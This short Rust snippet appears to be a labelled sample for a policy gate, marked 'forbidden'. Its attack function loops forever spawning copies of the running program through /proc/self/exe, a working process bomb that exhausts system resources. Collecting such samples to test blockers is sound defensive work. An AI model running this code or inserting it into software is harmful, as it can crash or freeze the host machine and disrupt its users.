// Starts itself over and over.
// Gate: policy
// Behind: forbidden

fn attack(_me: usize) {
    loop {
        let _ = std::process::Command::new("/proc/self/exe").spawn();
    }
}
